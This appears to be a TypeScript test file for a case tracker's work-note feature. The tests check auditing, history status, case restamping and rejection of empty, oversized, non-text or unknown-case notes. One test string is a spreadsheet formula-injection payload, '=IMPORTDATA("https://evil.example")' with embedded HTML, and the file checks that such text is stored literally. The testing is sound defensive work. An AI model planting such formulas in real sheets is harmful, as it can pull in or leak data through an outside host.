/**
 * Issue 18 point 4 through the built bundle: work notes. An ops member adds a note from the case sidebar:
 * it is audited (author and time from the server, text kept literal even when it looks like a formula),
 * shown in the case's history as pending until the owner's run seals it, restamps the case's Last updated,
 * and the weekly report counts it. Bad notes get a clear sentence and write nothing.
 */
import { callServerFunction } from '../../emulator';
import { fingerprint } from '../security/support/fingerprint';
import { nextHourlyRun } from '../security/support/record';
import { auditRows, automatedTracker, HOUR, newCase, rowOf } from '../support/automation-tracker';
import { call, OPS, type Tracker } from '../support/intake-tracker';

type NoteReply =
  | { ok: true; history: { action: string; field: string; newValue: string; status: string; user: string }[] }
  | { ok: false; error: string };

const addNote = (ctx: Tracker, caseId: string, text: unknown) =>
  call<NoteReply>(ctx, 'addWorkNote', { caseId, text });

test('a note is audited with its author, shown in the history, restamps the case and stays literal', () => {
  const ctx = automatedTracker();
  const { caseId } = newCase(ctx);
  ctx.ws.clock.advance(HOUR);
  const formulaLike = '=IMPORTDATA("https://evil.example") asked the seller for invoices <b>today</b>';
  const reply = addNote(ctx, caseId, `  Called the seller.\r\nThey promised the invoices by Friday.  `);
  expect(reply.ok).toBe(true);
  if (!reply.ok) return;
  expect(reply.history[0]).toMatchObject({
    action: 'Work note',
    field: 'Work note',
    newValue: 'Called the seller.\nThey promised the invoices by Friday.',
    user: OPS,
    status: 'pending',
  });
  expect(addNote(ctx, caseId, formulaLike).ok).toBe(true);
  const row = rowOf(ctx, caseId);
  expect(ctx.cases.getRange(row, ctx.column('Last updated by')).getValue()).toBe(OPS);
  nextHourlyRun(ctx);
  const notes = auditRows(ctx).filter((r) => r[2] === 'Work note');
  expect(notes.map((r) => [r[1], r[3], r[6]])).toEqual([
    [OPS, caseId, 'Called the seller.\nThey promised the invoices by Friday.'],
    [OPS, caseId, formulaLike],
  ]);
  const log = ctx.ss.getSheetByName('Audit log')!;
  expect(
    log
      .getDataRange()
      .getFormulas()
      .flat()
      .filter((f) => f !== ''),
  ).toEqual([]);
  const view = call<{ view: { history: { action: string; status: string }[] } }>(ctx, 'getCaseView', {
    caseId,
  });
  expect(view.view.history.filter((h) => h.action === 'Work note').map((h) => h.status)).toEqual([
    'sealed',
    'sealed',
  ]);
  // The note is not an edit: the next run finds nothing to put back or audit on the row.
  expect(auditRows(ctx).filter((r) => r[3] === caseId && r[2] === 'System column put back')).toEqual([]);
});

test('an empty, oversized or non-text note, or an unknown case, is refused with a sentence; nothing is written', () => {
  const ctx = automatedTracker();
  const { caseId } = newCase(ctx);
  const before = fingerprint(ctx);
  expect(addNote(ctx, caseId, '   ')).toEqual({ ok: false, error: 'Write the note first: it is empty.' });
  expect(addNote(ctx, caseId, 'x'.repeat(2001))).toEqual({
    ok: false,
    error: 'A work note holds at most 2000 characters; this one has 2001. Split it in two.',
  });
  expect(addNote(ctx, caseId, 42)).toEqual({ ok: false, error: 'A work note must be text.' });
  expect(addNote(ctx, 'CB-2026-09999', 'Note for nobody')).toEqual({
    ok: false,
    error: 'Case CB-2026-09999 is no longer in this tracker: the note was not added.',
  });
  const garbage = callServerFunction(ctx.ws, ctx.session, 'addWorkNote', [
    { caseId: 'not an id', text: 'x' },
  ]);
  expect(garbage.ok).toBe(false);
  expect(fingerprint(ctx)).toEqual(before);
});
